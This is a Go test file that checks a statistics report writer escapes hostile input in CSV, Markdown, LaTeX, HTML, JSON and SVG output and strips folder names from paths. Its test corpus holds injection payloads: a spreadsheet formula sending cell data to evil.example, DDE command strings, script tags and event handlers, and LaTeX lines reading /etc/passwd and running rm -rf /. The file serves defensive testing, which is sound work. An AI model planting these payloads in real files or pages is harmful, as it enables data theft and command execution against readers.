package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/rootshift/rootshift/core/dataset"
	"github.com/rootshift/rootshift/core/schema"
)

// Hostile names in every output format (issue 14, item 5; issue 12, item 6).
// The corpus follows common practice for output-injection tests (no source):
// spreadsheet formula prefixes (OWASP's list for CSV injection: = + - @ tab
// and carriage return, plus the full-width forms), terminal escape sequences
// (ECMA-48 CSI and OSC, in their 7-bit and 8-bit forms), bidirectional
// overrides, HTML and script, quotes, LaTeX specials and primitives,
// Markdown link syntax and line breaks. The checks say what must not
// survive in each format; golden files (testdata/hostile.*.golden, reviewed
// by hand, regenerated with go test -run TestHostileGolden -update) pin the
// exact escaping.

// hostileNames is the corpus of series names, dates, ids and messages.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"  =1+1",
	"＝1+1",
	"red \x1b[31mALERT\x1b[0m",
	"title \x1b]0;owned\x07 bell",
	"c1 \u009b31m csi",
	"bidi \u202eslx.exe",
	`<script>alert("x")</script>`,
	`<img src=x onerror=alert(1)>`,
	`"quoted" 'single' ` + "`tick`",
	`\input{/etc/passwd} \write18{rm -rf /} ^^5c $x^2$ & 50% #1 _a {b} ~c`,
	`[link](javascript:alert(1)) **bold** | pipe &amp; <http://x>`,
	"line1\nline2\r\nline3",
	"bad utf8 \xff\xfe",
}

// hostileSourcePath is an absolute path with folder names that must not
// leave the machine; only its base name may appear in a report.
const hostileSourcePath = "/home/analyst/confidential-merger/=cmd|x.csv"

// hostileDoc builds a document in which every user-supplied string is one
// of hostileNames: series names, the source, break dates, window labels,
// error columns and messages, warnings. The numbers are invented (common
// practice, no source).
func hostileDoc() (*schema.Document, []dataset.Series) {
	doc := &schema.Document{
		Schema: schema.ID, Version: "0.1.0",
		Settings: schema.Settings{Level: 0.05},
		Source:   &schema.Source{Name: hostileSourcePath, Rows: 12, DateColumn: hostileNames[12]},
		Caution:  schema.Caution,
	}
	var inputs []dataset.Series
	for i, name := range hostileNames {
		other := hostileNames[(i+1)%len(hostileNames)]
		dates := make([]string, 12)
		values := make([]float64, 12)
		for j := range dates {
			dates[j] = strconv.Itoa(2000+j) + other
			values[j] = float64(j%5) + 0.5*float64(j)
		}
		br := schema.Break{Index: 6, Date: dates[5], Lower: 5, Upper: 7, LowerDate: dates[4], UpperDate: dates[6], CILevel: 0.9}
		doc.Series = append(doc.Series, schema.Series{
			Name: name, N: 12, Start: dates[0], End: dates[11], Frequency: "annual",
			Results: []schema.Result{{
				Test: "za", Variant: "model A", Trend: "constant", Shift: "level",
				Statistic: fp(-5.5), PValue: fp(0.0004), PValueMethod: "table; " + other,
				CriticalValues: map[string]float64{"0.01": -5.34, "0.05": -4.8, "0.10": -4.58},
				Tail:           "left", Lags: 1, NObs: 10, Null: "unit root", Reject: true, Level: 0.05,
				Breaks: []schema.Break{br}, Warnings: []string{other},
				Estimates: map[string]float64{"gamma10": 1, "gamma2": 0.25, other: 3},
			}},
			Verdict: &schema.Verdict{
				Class: "break-stationary", Order: ip(0), Transform: "shift-dummies",
				Breaks:      []schema.Break{br},
				Window:      &schema.WindowCheck{From: dates[3], To: dates[7], BreakInside: true, FromIndex: 4, ToIndex: 8, Answer: other},
				Explanation: "explanation quoting " + other,
				Supporting:  []string{other}, Against: []string{name},
				Tests: []string{"za"},
			},
			Errors: []schema.Error{{Test: "adf", Row: 3, Column: other, Message: name},
				{Message: `reading "/home/analyst/confidential-merger/in/q1.xlsx": sheet 2; also C:\Users\analyst\confidential-merger\b.csv`}},
			Warnings: []string{other},
		})
		inputs = append(inputs, dataset.Series{Name: name, Values: values, Dates: dates, Frequency: "annual"})
	}
	return doc, inputs
}

// TestHostileGolden writes the hostile document in every format and
// compares it with testdata/hostile.<ext>.golden.
func TestHostileGolden(t *testing.T) {
	for _, format := range Formats {
		t.Run(format, func(t *testing.T) {
			doc, inputs := hostileDoc()
			var buf bytes.Buffer
			if err := Write(&buf, format, doc, inputs); err != nil {
				t.Fatal(err)
			}
			path := filepath.Join("testdata", "hostile."+goldenExt[format]+".golden")
			if *update {
				if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test -run TestHostileGolden -update)", err)
			}
			if !bytes.Equal(buf.Bytes(), want) {
				got := path + ".got"
				_ = os.WriteFile(got, buf.Bytes(), 0o644)
				t.Errorf("output differs from %s; wrote %s", path, got)
			}
		})
	}
}

// TestHostileNothingSurvives checks, format by format, that nothing in the
// hostile corpus can act on the reader: no control or bidi character in any
// text format, no formula in a CSV cell, no markup in Markdown, no command
// in LaTeX, no element or attribute of the names' making in HTML, and no
// folder of the source path anywhere.
func TestHostileNothingSurvives(t *testing.T) {
	doc, inputs := hostileDoc()
	for _, format := range Formats {
		var buf bytes.Buffer
		if err := Write(&buf, format, doc, inputs); err != nil {
			t.Fatalf("%s: %v", format, err)
		}
		out := buf.String()
		if !utf8.ValidString(out) {
			t.Errorf("%s: output is not valid UTF-8", format)
		}
		for _, r := range out {
			if (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || hiddenRune(r) {
				t.Errorf("%s: control or hidden character %U survives", format, r)
				break
			}
		}
		if strings.Contains(out, "confidential-merger") {
			t.Errorf("%s: the source's folders leak", format)
		}
		if format != "csv" && !strings.Contains(strings.Join(strings.Fields(out), " "), schema.Caution[:60]) {
			t.Errorf("%s: no caution", format)
		}
		if format != "json" && format != "csv" && !strings.Contains(out, "cmd") {
			t.Errorf("%s: the source's base name is missing", format)
		}
		switch format {
		case "csv":
			checkCSVSafe(t, out)
		case "md":
			checkMarkdownSafe(t, out)
		case "latex":
			checkLaTeXSafe(t, out)
		case "html":
			checkHTMLSafe(t, out)
		case "json":
			var back schema.Document
			if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
				t.Errorf("json: %v", err)
			} else if back.Series[8].Name != hostileNames[8] {
				t.Errorf("json: name %q does not round-trip", back.Series[8].Name)
			}
			if strings.ContainsAny(out, "<>") {
				t.Error("json: raw < or > (encoding/json escapes them)")
			}
		}
	}
	if doc.Source.Name != hostileSourcePath || !strings.Contains(doc.Series[0].Errors[1].Message, "confidential-merger") {
		t.Error("a writer modified the document")
	}
	for i := range inputs {
		for _, svg := range []string{SeriesSVG(inputs[i], doc.Series[i].Verdict.Breaks, nil), PathSVG(doc.Series[i].Results[0])} {
			checkHTMLSafe(t, svg)
		}
	}
}

// csvNumeric are the CSV columns the writer fills with numbers of its own;
// every other cell is text and must not start like a formula.
var csvNumeric = map[string]bool{
	"statistic": true, "p_value": true, "p_value_sim": true, "cv_1": true, "cv_5": true, "cv_10": true,
	"lags": true, "nobs": true, "level": true, "break_indexes": true, "verdict_order": true,
}

func checkCSVSafe(t *testing.T, out string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v", err)
	}
	head := recs[0]
	for _, rec := range recs[1:] {
		for j, cell := range rec {
			if csvNumeric[head[j]] {
				if cell != "" {
					if _, err := strconv.ParseFloat(cell, 64); err != nil {
						t.Errorf("csv: number column %s holds %q", head[j], cell)
					}
				}
				continue
			}
			if formulaLike(cell) {
				t.Errorf("csv: column %s cell %q can be read as a formula", head[j], cell)
			}
		}
	}
}

// formulaLike reports a cell that a spreadsheet could evaluate.
func formulaLike(cell string) bool {
	if cell == "" {
		return false
	}
	if cell[0] == '\t' || cell[0] == '\r' {
		return true
	}
	first, _ := utf8.DecodeRuneInString(strings.TrimLeft(cell, " "))
	return strings.ContainsRune("=+-@＝＋－＠", first)
}

// TestNoFolders: paths inside messages lose their folders.
func TestNoFolders(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"no path here, n/a and 1/2", "no path here, n/a and 1/2"},
		{`"testdata/us-employment.csv" row 3`, `"us-employment.csv" row 3`},
		{"/home/a/b/c.CSV: bad", "c.CSV: bad"},
		{`C:\data\x.xlsx, sheet 1`, "x.xlsx, sheet 1"},
		{"file ./rel/y.jsonl.gz ok", "file y.jsonl.gz ok"},
	} {
		if got := noFolders(tc.in); got != tc.want {
			t.Errorf("noFolders(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestCSVCell is the cell rule itself, case by case.
func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"gdp", "gdp"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"  =1", "'  =1"},
		{"\t=1", `'\t=1`},
		{"\r=1", `'\r=1`},
		{"＝1", "'＝1"},
		{"a=1", "a=1"},
		{"a\x1b[31m", `a\x1b[31m`},
		{"a\nb", `a\nb`},
		{"'quoted'", "'quoted'"},
	} {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if formulaLike(CSVCell(tc.in)) {
			t.Errorf("CSVCell(%q) is still formula-like", tc.in)
		}
	}
}

// mdMarkup matches Markdown constructs that the names could open: an
// unescaped emphasis, code, link bracket, pipe or math character, an HTML
// tag or autolink, an entity.
var (
	mdUnescaped = regexp.MustCompile("(^|[^\\\\])(\\\\\\\\)*[`*\\[\\]$~]")
	mdTag       = regexp.MustCompile(`(^|[^\\])<[A-Za-z/!?]`)
	mdEntity    = regexp.MustCompile(`(^|[^\\])&[A-Za-z#]`)
)

func checkMarkdownSafe(t *testing.T, out string) {
	t.Helper()
	for _, line := range strings.Split(out, "\n") {
		body := line
		// the writer's own markup: headings, bold verdicts, list items, table rules
		body = strings.TrimPrefix(body, "## ")
		body = strings.TrimPrefix(body, "# ")
		body = strings.TrimPrefix(body, "- ")
		body = strings.ReplaceAll(body, "**", "")
		if mdUnescaped.MatchString(body) {
			t.Errorf("md: unescaped markup in %q", line)
		}
		if mdTag.MatchString(line) || mdEntity.MatchString(line) {
			t.Errorf("md: HTML tag or entity in %q", line)
		}
	}
	if strings.Contains(out, "&lt;") {
		t.Error("md: HTML entity for < (shows as &lt; in plain text)")
	}
}

// texAllowed are the commands the LaTeX writer itself uses.
var texAllowed = map[string]bool{
	"begin": true, "end": true, "centering": true, "caption": true, "hline": true, "multicolumn": true,
	"textit": true, "textbf": true, "footnotesize": true, "quad": true, "linewidth": true, "textbackslash": true,
	"textasciitilde": true, "textasciicircum": true, "textless": true, "textgreater": true, "textbar": true,
	"input": true, // in the comment "Include with \input" only; see below
}

func checkLaTeXSafe(t *testing.T, out string) {
	t.Helper()
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "%") {
			continue // the writer's own comments
		}
		for _, m := range regexp.MustCompile(`\\([A-Za-z]+)`).FindAllStringSubmatch(line, -1) {
			if !texAllowed[m[1]] || m[1] == "input" {
				t.Errorf("latex: command \\%s in %q", m[1], line)
			}
		}
		if strings.Contains(line, "^^") {
			t.Errorf("latex: ^^ notation survives in %q", line)
		}
		// every % # & _ { } $ ~ ^ of a name is escaped: count the unescaped
		// ones against those the writer's own layout needs
		unesc := regexp.MustCompile(`(^|[^\\])[%#_~^]`)
		if m := unesc.FindString(stripTeXCommands(line)); m != "" {
			t.Errorf("latex: unescaped special %q in %q", m, line)
		}
	}
	if strings.Contains(out, "confidential") {
		t.Error("latex: path leaks")
	}
}

// stripTeXCommands removes the writer's escapes and math superscripts so
// that only characters of the text remain to be checked.
func stripTeXCommands(line string) string {
	line = regexp.MustCompile(`\^\{\*+\}`).ReplaceAllString(line, "")
	return line
}

// htmlElements are the elements the HTML and SVG writers produce.
var htmlElements = map[string]bool{
	"html": true, "head": true, "meta": true, "title": true, "style": true, "body": true, "h1": true, "h2": true,
	"h3": true, "p": true, "strong": true, "ul": true, "li": true, "a": true, "section": true, "div": true,
	"table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true, "figure": true,
	"figcaption": true, "svg": true, "rect": true, "line": true, "text": true, "polyline": true, "circle": true,
	"details": true, "summary": true, "span": true, "g": true, "small": true, "caption": true,
}

// checkHTMLSafe parses out as XML and checks that every element is one the
// writer makes, that no attribute is an event handler or a script address,
// and that no text node holds markup.
func checkHTMLSafe(t *testing.T, out string) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(strings.TrimPrefix(out, "<!DOCTYPE html>\n")))
	d.Strict = true
	for {
		tok, err := d.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Errorf("html: not well-formed: %v", err)
			return
		}
		switch x := tok.(type) {
		case xml.StartElement:
			if !htmlElements[x.Name.Local] {
				t.Errorf("html: element <%s> not made by the writer", x.Name.Local)
			}
			for _, a := range x.Attr {
				if strings.HasPrefix(strings.ToLower(a.Name.Local), "on") {
					t.Errorf("html: event attribute %s", a.Name.Local)
				}
				if strings.Contains(strings.ToLower(a.Value), "javascript:") {
					t.Errorf("html: script address in %s", a.Name.Local)
				}
			}
		}
	}
}
